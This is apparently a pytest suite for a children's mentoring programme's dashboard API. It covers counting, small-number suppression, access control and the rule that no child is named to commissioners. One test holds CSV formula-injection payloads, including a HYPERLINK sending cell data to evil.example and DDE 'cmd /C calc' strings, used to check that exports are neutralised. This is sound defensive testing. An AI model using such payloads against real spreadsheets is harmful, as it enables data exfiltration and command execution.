"""Commissioner dashboards: every figure against an independent count on a small invented programme, small-number
suppression at its boundary, no child ever named to a commissioner, and who may ask at all."""

from __future__ import annotations

import csv
import io
import statistics
from datetime import date, timedelta
from decimal import Decimal
from urllib.parse import quote

import pytest

from api.actors import Role
from api.alerts.rules import AlertKind
from api.children.models import Child
from api.outcomes import service as outcomes_service
from api.sessions.rules import SessionStatus
from tests.api.dashboard_world import LONDON, World, at
from tests.builders import actor_for, admit_child, auth_headers, make_child, make_cohort, make_programme, make_user
from tests.conftest import DEFAULT_NOW

SINCE, UNTIL = date(2026, 1, 1), date(2026, 6, 30)
PERIOD = f"since={SINCE}&until={UNTIL}"
DASHBOARDS = (
    "places",
    "waitlist",
    "mentors",
    "delivery",
    "group-delivery",
    "wellbeing",
    "outcomes",
    "return-conversations",
    "time-to-acknowledge",
)
URGENT, HIGH = AlertKind.SAFEGUARDING_CONCERN, AlertKind.WELLBEING_DROP
# Alerts still waiting at the end of the period, and their age in minutes now (DEFAULT_NOW).
URGENT_WAITING, HIGH_WAITING = at(date(2026, 6, 30), 23, 59), at(date(2026, 3, 3), 16, 20)


def minutes_since(moment) -> float:
    return (DEFAULT_NOW - moment).total_seconds() / 60


@pytest.fixture()
def world(db_session) -> World:
    world = World(db_session)
    a = world.a
    # Delivered (some evening, some at the weekend), missed, cancelled, still planned, rescheduled, out of period.
    world.session(at(date(2025, 12, 10)), SessionStatus.COMPLETED, [a[0]])  # before the period: a[0]'s first
    world.session(at(date(2026, 2, 20)), SessionStatus.COMPLETED, [a[1]])
    world.session(at(date(2026, 3, 5), 18), SessionStatus.COMPLETED, [a[0], a[2]])  # evening, group
    world.session(at(date(2026, 3, 7)), SessionStatus.COMPLETED, [a[2]])  # Saturday
    world.session(at(date(2026, 5, 5), 17, 30), SessionStatus.COMPLETED, [a[0]])  # evening in BST
    world.session(at(date(2026, 5, 25), 16, 59), SessionStatus.COMPLETED, [a[5]])  # just before evening
    world.session(at(date(2026, 6, 20)), SessionStatus.COMPLETED, [a[3]])  # Saturday
    world.session(at(date(2026, 4, 2)), SessionStatus.DID_NOT_ATTEND, [a[0]])
    world.session(at(date(2026, 4, 3)), SessionStatus.CANCELLED_BY_CHILD, [a[2]])
    world.session(at(date(2026, 4, 4)), SessionStatus.CANCELLED_BY_MENTOR, [a[2]])
    world.session(at(date(2026, 4, 6)), SessionStatus.RESCHEDULED, [a[2]])
    world.session(at(date(2026, 6, 29)), SessionStatus.PLANNED, [a[3]])
    world.session(at(date(2026, 7, 2)), SessionStatus.COMPLETED, [a[3]])  # after the period
    # Wellbeing: SWEMWBS metric scores and the mean of goals.
    world.score(a[0], "swemwbs", "metric", at(date(2025, 12, 2)), "18.00")
    world.score(a[0], "swemwbs", "metric", at(date(2026, 3, 1)), "20.00")
    world.score(a[0], "swemwbs", "metric", at(date(2026, 6, 1)), "22.50")  # follow-up: +4.50
    world.score(a[1], "swemwbs", "metric", at(date(2026, 2, 11)), "20.00")
    world.score(a[1], "swemwbs", "metric", at(date(2026, 3, 30)), "21.00")  # +1.00
    world.score(a[2], "swemwbs", "metric", at(date(2026, 3, 2)), "24.00")  # baseline only
    world.score(a[3], "swemwbs", "metric", at(date(2026, 7, 5)), "24.00")  # after the period: not counted
    world.score(a[0], "gbo", "mean", at(date(2025, 12, 2)), "3.00")
    world.score(a[0], "gbo", "mean", at(date(2026, 5, 1)), "6.50")  # +3.50
    world.score(a[1], "gbo", "mean", at(date(2026, 2, 11)), "5.00")
    world.score(a[1], "gbo", "mean", at(date(2026, 3, 30)), "4.00")  # -1.00
    # Alerts: urgent ones acknowledged after 3, 7.5, 12, 15 and 40 minutes and one still waiting; high ones after 1
    # and 3 hours and one still waiting; and urgent ones just outside the period on either side.
    for raised_at, waited in [
        (at(date(2026, 1, 1), 0, 0), timedelta(minutes=12)),  # the period's first moment
        (at(date(2026, 2, 14), 3, 10), timedelta(minutes=3)),
        (at(date(2026, 4, 1), 22, 0), timedelta(minutes=7, seconds=30)),
        (at(date(2026, 5, 9), 9, 45), timedelta(minutes=40)),
        (at(date(2026, 6, 12), 14, 0), timedelta(minutes=15)),
        (URGENT_WAITING, None),  # the period's last minute (BST)
        (at(date(2025, 12, 31), 23, 59), timedelta(minutes=999)),  # before the period
        (at(date(2026, 7, 1), 0, 0), None),  # after it
    ]:
        world.alert(URGENT, raised_at, waited)
    world.alert(HIGH, at(date(2026, 2, 2), 11), timedelta(hours=3))
    world.alert(HIGH, at(date(2026, 5, 30), 19), timedelta(hours=1))
    world.alert(HIGH, HIGH_WAITING)
    return world


def get(client, world, user, dashboard, query=PERIOD, **headers):
    return client.get(
        f"/programmes/{world.programme.id}/dashboards/{dashboard}?{query}",
        headers=auth_headers(world.db_session, user) | headers,
    )


def days_held(started: date, ended: date | None) -> int:
    """Counted day by day: the days of the period from the start up to, not including, the end."""
    day, count = SINCE, 0
    while day <= UNTIL:
        count += started <= day and (ended is None or day < ended)
        day += timedelta(days=1)
    return count


def test_places_per_cohort_now_and_time_weighted(client, world):
    body = get(client, world, world.coordinator, "places").json
    a, b = body["cohorts"]
    days = (UNTIL - SINCE).days + 1
    used = sum(days_held(started, ended) for started, ended in world.spells)
    supported = sum(days_held(started, ended) > 0 for started, ended in world.spells)
    assert (a["cohort_name"], a["funded"], a["occupied"], a["offered"], a["free"]) == ("A", 10, 3, 0, 7)
    assert (a["occupied_place_days"], a["funded_place_days"], a["children_supported_in_period"]) == (
        used,
        10 * days,
        supported,
    )
    assert a["occupancy"] == pytest.approx(round(used / (10 * days), 4))
    # B: one active and one offered now; the active child started when admitted (in November), after the period.
    assert (b["funded"], b["occupied"], b["offered"], b["free"], b["occupied_place_days"]) == (3, 1, 1, 1, 0)
    assert body["filters"] == {
        "programme_id": str(world.programme.id),
        "cohort_id": None,
        "district": None,
        "since": "2026-01-01",
        "until": "2026-06-30",
    }


def test_a_district_narrows_the_children_counted(client, world):
    body = get(client, world, world.coordinator, "places", f"{PERIOD}&district=Medway&cohort_id={world.cohort_a.id}")
    (a,) = body.json["cohorts"]
    medway = world.spells[4:]
    assert (a["occupied"], a["free"]) == (0, 7)
    assert a["occupied_place_days"] == sum(days_held(started, ended) for started, ended in medway)


# Counts that add up over districts when each child is in one and each session has children of one district (the
# world's group session has two of cohort A's Dartford children).
ADDITIVE = {
    "places": lambda body: [(c["occupied"], c["offered"], c["occupied_place_days"]) for c in body["cohorts"]],
    "waitlist": lambda body: [
        body[key] for key in ("waitlisted_now", "still_waiting_for_first_session", "first_sessions_in_period")
    ],
    "mentors": lambda body: [body["children_allocated"]],
    "delivery": lambda body: [body[key] for key in ("planned", "delivered", "missed", "cancelled", "attendances")],
}


@pytest.mark.parametrize("dashboard", sorted(ADDITIVE))
def test_each_district_counts_its_own_children_and_the_districts_add_up(client, world, dashboard):
    # The dashboards join an enrolment to its child only to filter by district: with one, each district counts
    # its own children once; without, every child counts once.
    def figures(query):
        return ADDITIVE[dashboard](get(client, world, world.coordinator, dashboard, query).json)

    def flat(values):
        return [figure for value in values for figure in (value if isinstance(value, tuple) else (value,))]

    whole = flat(figures(PERIOD))
    dartford, medway = (flat(figures(f"{PERIOD}&district={district}")) for district in ("Dartford", "Medway"))
    assert any(whole)
    assert [d + m for d, m in zip(dartford, medway, strict=True)] == whole
    world.programme.districts = [*world.programme.districts, "Nowhere"]
    world.db_session.commit()
    assert not any(flat(figures(f"{PERIOD}&district=Nowhere")))


def test_waitlist_waits_to_first_session(client, world):
    body = get(client, world, world.coordinator, "waitlist").json
    # First completed sessions in the period: a[1] 20 Feb, a[2] 5 Mar, a[5] 25 May, a[3] 20 Jun (a[0]'s was before).
    waits = sorted(
        (first - world.referred[n]).days
        for n, first in ((1, date(2026, 2, 20)), (2, date(2026, 3, 5)), (5, date(2026, 5, 25)), (3, date(2026, 6, 20)))
    )
    assert body["first_sessions_in_period"] == 4
    assert body["median_wait_days"] == pytest.approx(statistics.median(waits))
    assert body["p90_wait_days"] == waits[-1]  # nearest rank: ceil(0.9 * 4) = 4th
    # Waitlisted now: B's two. Still waiting: B's active, offered and two waitlisted have had no session.
    assert (body["waitlisted_now"], body["still_waiting_for_first_session"]) == (2, 4)


def test_mentors_caseloads_for_staff_and_distribution(client, world):
    body = get(client, world, world.coordinator, "mentors").json
    rows = {row["mentor_id"]: row for row in body["caseloads"]}
    assert (rows[str(world.mentor.id)]["caseload"], rows[str(world.mentor.id)]["utilisation"]) == (2, 1.0)
    assert (rows[str(world.mentor_two.id)]["caseload"], rows[str(world.mentor_two.id)]["utilisation"]) == (1, 0.1)
    assert rows[str(world.mentor.id)]["display_name"] == world.mentor.display_name
    assert (body["mentors"], body["children_allocated"], body["at_or_over_capacity"]) == (2, 3, 1)
    assert body["mean_utilisation"] == pytest.approx(0.55)


def test_delivery_counts_shares_and_dosage(client, world):
    body = get(client, world, world.coordinator, "delivery").json
    in_period = [
        (start, status, kids)
        for start, status, kids in world.sessions
        if SINCE <= start.astimezone(LONDON).date() <= UNTIL
    ]
    delivered = [(start, kids) for start, status, kids in in_period if status is SessionStatus.COMPLETED]
    evening = sum(start.astimezone(LONDON).hour >= 17 for start, _ in delivered)
    weekend = sum(start.astimezone(LONDON).weekday() >= 5 for start, _ in delivered)
    attendances = sum(len(kids) for _, kids in delivered)
    weeks = Decimal(sum(days_held(started, ended) for started, ended in world.spells)) / 7
    assert (body["planned"], body["delivered"], body["missed"], body["cancelled"], body["not_yet_recorded"]) == (
        len([s for s in in_period if s[1] is not SessionStatus.RESCHEDULED]),
        len(delivered),
        1,
        2,
        1,
    )
    assert (evening, weekend) == (2, 2)
    assert body["evening_share"] == pytest.approx(round(evening / len(delivered), 4))
    assert body["weekend_share"] == pytest.approx(round(weekend / len(delivered), 4))
    assert (body["attendances"], body["children_seen"]) == (attendances, 5)
    assert body["sessions_per_child_per_week"] == pytest.approx(float(round(attendances / weeks, 2)))
    # The one session not attended, a one-to-one: its child's line.
    assert body["missed_attendances"] == 1


def test_a_group_session_held_counts_only_the_children_who_came(client, world):
    before = get(client, world, world.coordinator, "delivery").json
    a = world.a
    # a[4] has no other session: whether they are "seen" depends on this one alone.
    world.session(at(date(2026, 6, 10)), SessionStatus.COMPLETED, [a[0], a[2], a[4]], did_not_attend=(a[4],))

    after = get(client, world, world.coordinator, "delivery").json
    gained = {key: after[key] - before[key] for key in ("delivered", "missed", "attendances", "missed_attendances")}
    assert gained == {"delivered": 1, "missed": 0, "attendances": 2, "missed_attendances": 1}
    assert after["children_seen"] == before["children_seen"]
    weeks = Decimal(sum(days_held(started, ended) for started, ended in world.spells)) / 7
    assert after["sessions_per_child_per_week"] == pytest.approx(float(round(after["attendances"] / weeks, 2)))


def test_wellbeing_change_and_goal_progress(client, world):
    body = get(client, world, world.coordinator, "wellbeing").json
    swemwbs = next(row for row in body["measures"] if row["instrument_key"] == "swemwbs")
    changes = [Decimal("4.50"), Decimal("1.00")]
    assert (swemwbs["children_with_baseline"], swemwbs["children_with_follow_up"]) == (3, 2)
    assert swemwbs["mean_change"] == pytest.approx(float(sum(changes) / 2))
    # SWEMWBS's threshold is 3 metric points: one child of two.
    assert (swemwbs["meaningfully_improved"], swemwbs["improved_share"]) == (1, 0.5)
    goals = body["goal_progress"]
    assert (goals["instrument_key"], goals["children_with_follow_up"], goals["mean_change"]) == ("gbo", 2, 1.25)
    assert goals["meaningfully_improved"] == 1


def test_outcomes_are_the_cost_benefit_estimate(client, world):
    body = get(client, world, world.coordinator, "outcomes", f"cohort_id={world.cohort_a.id}&price_year=2024/25").json
    expected = outcomes_service.estimate_cost_benefit(
        world.db_session,
        actor=actor_for(world.coordinator),
        programme_id=world.programme.id,
        cohort_id=world.cohort_a.id,
        price_year="2024/25",
        suppression_threshold=5,
        now=DEFAULT_NOW,
    )
    assert body["estimate"]["children"] == expected.children
    assert [row["event_type"] for row in body["estimate"]["outcomes"]] == [
        o.event_type.value for o in expected.outcomes
    ]
    assert body["filters"]["cohort_id"] == str(world.cohort_a.id)


def test_return_conversations_with_none_in_the_period(client, world):
    body = get(client, world, world.coordinator, "return-conversations").json
    assert body["summary"] == {"returns": 0, "completed_within_72h": 0, "rate": None}


def acknowledgement_rows(body):
    return {
        row["urgency"]: (
            row["raised"],
            row["acknowledged"],
            row["median_minutes"],
            row["p90_minutes"],
            row["unacknowledged"],
            row["oldest_unacknowledged_minutes"],
        )
        for row in body["urgencies"]
    }


def test_time_to_acknowledge_by_urgency_for_the_programmes_coordinator(client, db_session, world):
    # Another programme's alert in the period is not this one's.
    other = make_programme(db_session)
    world.alert(
        URGENT,
        at(date(2026, 3, 1)),
        timedelta(minutes=500),
        programme_id=other.id,
        child_id=make_child(db_session, programme=other).id,
    )

    body = get(client, world, world.coordinator, "time-to-acknowledge", f"{PERIOD}&district=Dartford").json

    assert [row["urgency"] for row in body["urgencies"]] == ["urgent", "high", "normal"]
    # Waits in seconds 180, 450, 720, 900, 2400: the median is the third, the 90th percentile (nearest rank) the fifth.
    assert acknowledgement_rows(body) == {
        "urgent": (6, 5, 12.0, 40.0, 1, minutes_since(URGENT_WAITING)),
        "high": (3, 2, 120.0, 180.0, 1, minutes_since(HIGH_WAITING)),
        "normal": (0, 0, None, None, 0, None),
    }
    # Alerts belong to the programme: the district does not narrow them, and the answer says so.
    assert body["filters"] == {
        "programme_id": str(world.programme.id),
        "cohort_id": None,
        "district": None,
        "since": str(SINCE),
        "until": str(UNTIL),
    }


def test_time_to_acknowledge_for_a_commissioner_suppresses_small_counts_and_the_times_from_them(client, world):
    body = get(client, world, world.commissioner, "time-to-acknowledge").json

    assert acknowledgement_rows(body) == {
        "urgent": (6, 5, 12.0, 40.0, "<5", None),
        "high": ("<5", "<5", None, None, "<5", None),
        "normal": (0, 0, None, None, 0, None),
    }


@pytest.mark.parametrize(("acknowledged", "shown"), [(4, "<5"), (5, 5)])
def test_the_times_to_acknowledge_are_withheld_from_a_commissioner_exactly_when_their_count_is(
    client, db_session, acknowledged, shown
):
    world = World(db_session)
    for minute in range(acknowledged):
        world.alert(URGENT, at(date(2026, 3, 2 + minute)), timedelta(minutes=10 + minute))
    for _ in range(5):
        world.alert(URGENT, at(date(2026, 4, 1)))  # five still waiting: the raised count is never the small one

    staff = acknowledgement_rows(get(client, world, world.coordinator, "time-to-acknowledge").json)["urgent"]
    seen = acknowledgement_rows(get(client, world, world.commissioner, "time-to-acknowledge").json)["urgent"]

    assert staff[:2] == (acknowledged + 5, acknowledged)
    assert seen[:2] == (acknowledged + 5, shown)
    assert seen[2:4] == ((None, None) if shown == "<5" else staff[2:4])
    assert staff[2] is not None and seen[4:] == (5, minutes_since(at(date(2026, 4, 1))))


def test_time_to_acknowledge_as_csv_has_a_row_per_urgency_and_leaves_withheld_figures_empty(client, world):
    response = get(client, world, world.commissioner, "time-to-acknowledge", f"{PERIOD}&format=csv")

    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = [
        {key.removesuffix("_unacknowledged_minutes"): value for key, value in row.items()}
        for row in csv.DictReader(io.StringIO(response.get_data(as_text=True)))
    ]
    columns = ("urgency", "raised", "acknowledged", "median_minutes", "p90_minutes", "unacknowledged", "oldest")
    assert [tuple(row[column] for column in columns) for row in rows] == [
        ("urgent", "6", "5", "12.0", "40.0", "<5", ""),
        ("high", "<5", "<5", "", "", "<5", ""),
        ("normal", "0", "0", "", "", "0", ""),
    ]
    assert {row["since"] for row in rows} == {str(SINCE)}


def test_csv_export_of_a_table(client, world):
    response = get(client, world, world.coordinator, "places", f"{PERIOD}&format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert [(row["cohort_name"], row["occupied"], row["since"]) for row in rows] == [
        ("A", "3", "2026-01-01"),
        ("B", "1", "2026-01-01"),
    ]
    accepted = get(client, world, world.coordinator, "waitlist", PERIOD, Accept="text/csv")
    assert accepted.mimetype == "text/csv"
    assert next(csv.DictReader(io.StringIO(accepted.get_data(as_text=True))))["waitlisted_now"] == "2"


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_COHORT, HOSTILE_DISTRICT = '=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_MENTORS = ("+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1")


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("role", ["coordinator", "commissioner"])
def test_no_csv_export_holds_a_live_spreadsheet_formula(client, world, role):
    world.cohort_a.name = HOSTILE_COHORT
    world.mentor.display_name, world.mentor_two.display_name = HOSTILE_MENTORS[:2]
    world.programme.districts = [*world.programme.districts, HOSTILE_DISTRICT]
    for enrolment in world.a:
        world.db_session.get(Child, enrolment.child_id).district = HOSTILE_DISTRICT  # cohort A moves
    world.db_session.commit()
    seen = []
    for dashboard in DASHBOARDS:
        for query in (f"{PERIOD}&format=csv", f"{PERIOD}&format=csv&district={quote(HOSTILE_DISTRICT)}"):
            response = get(client, world, getattr(world, role), dashboard, query)
            assert response.status_code == 200 and response.mimetype == "text/csv", (dashboard, response.json)
            text = response.get_data(as_text=True)
            cells = _cells(text)
            live = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not _is_number(cell)]
            assert live == [], dashboard
            # Every field quoted, so a separator or line break in a name cannot start a cell of its own.
            for line in text.split("\r\n")[:-1]:
                assert line.startswith('"') and line.endswith('"'), (dashboard, line)
            seen.extend(cells)
    assert "'" + HOSTILE_COHORT in seen
    assert "'" + HOSTILE_DISTRICT in seen
    if role == "coordinator":
        assert {"'" + name for name in HOSTILE_MENTORS[:2]} <= set(seen)


def _is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(("active", "shown"), [(4, "<5"), (5, 5), (0, 0)])
def test_a_commissioner_sees_small_counts_suppressed_at_the_threshold(client, db_session, active, shown):
    programme = make_programme(db_session)
    commissioner = make_user(db_session, Role.COMMISSIONER, programme=programme)
    cohort = make_cohort(db_session, programme=programme, places=8)
    for _ in range(active):
        admit_child(db_session, cohort=cohort)
    response = client.get(
        f"/programmes/{programme.id}/dashboards/places", headers=auth_headers(db_session, commissioner)
    )
    (row,) = response.json["cohorts"]
    assert row["occupied"] == shown
    # Free places would give the suppressed count back (8 - 4), so they are withheld with it.
    assert row["free"] == (None if shown == "<5" else 8 - active)


def test_a_commissioner_gets_distributions_not_mentors_and_derived_figures_withheld(client, world):
    mentors = get(client, world, world.commissioner, "mentors").json
    assert mentors["caseloads"] == []
    assert (mentors["mentors"], mentors["children_allocated"], mentors["mean_utilisation"]) == ("<5", "<5", None)
    delivery = get(client, world, world.commissioner, "delivery").json
    # Two evening sessions of six: the share is withheld; seven attendances over five spells are shown.
    assert (delivery["delivered"], delivery["evening_share"], delivery["missed"]) == (6, None, "<5")
    assert (
        delivery["sessions_per_child_per_week"]
        == get(client, world, world.coordinator, "delivery").json["sessions_per_child_per_week"]
    )
    wellbeing = get(client, world, world.commissioner, "wellbeing").json
    swemwbs = next(row for row in wellbeing["measures"] if row["instrument_key"] == "swemwbs")
    assert (swemwbs["children_with_follow_up"], swemwbs["mean_change"], swemwbs["improved_share"]) == ("<5", None, None)


def test_no_dashboard_names_a_child_to_a_commissioner(client, world):
    from api.children.models import Child

    children = [world.db_session.get(Child, enrolment.child_id) for enrolment in world.a + world.b]
    secrets = {str(child.id) for child in children} | {child.reference for child in children}
    secrets |= {child.first_name for child in children} | {child.last_name for child in children}
    secrets |= {str(enrolment.id) for enrolment in world.a + world.b}
    for dashboard in DASHBOARDS:
        for query, headers in ((PERIOD, {}), (f"{PERIOD}&format=csv", {}), (PERIOD, {"Accept": "text/csv"})):
            response = get(client, world, world.commissioner, dashboard, query, **headers)
            assert response.status_code == 200, (dashboard, response.json)
            text = response.get_data(as_text=True)
            assert not [secret for secret in secrets if secret in text], dashboard


@pytest.mark.parametrize("dashboard", DASHBOARDS)
def test_another_programme_is_not_found_and_mentors_are_refused(client, world, dashboard):
    other = make_programme(world.db_session)
    for role in (Role.COORDINATOR, Role.COMMISSIONER):
        outsider = make_user(world.db_session, role, programme=other)
        assert get(client, world, outsider, dashboard).status_code == 404
    assert get(client, world, world.mentor, dashboard).status_code == 403
    assert get(client, world, world.admin, dashboard).status_code == 200


def test_a_cohort_of_another_programme_and_a_reversed_period_are_refused(client, world):
    other_cohort = make_cohort(world.db_session)
    assert get(client, world, world.coordinator, "places", f"cohort_id={other_cohort.id}").status_code == 404
    assert get(client, world, world.coordinator, "places", "since=2026-02-01&until=2026-01-01").status_code == 422
    assert get(client, world, world.coordinator, "places", "district=Nowhere").status_code == 422
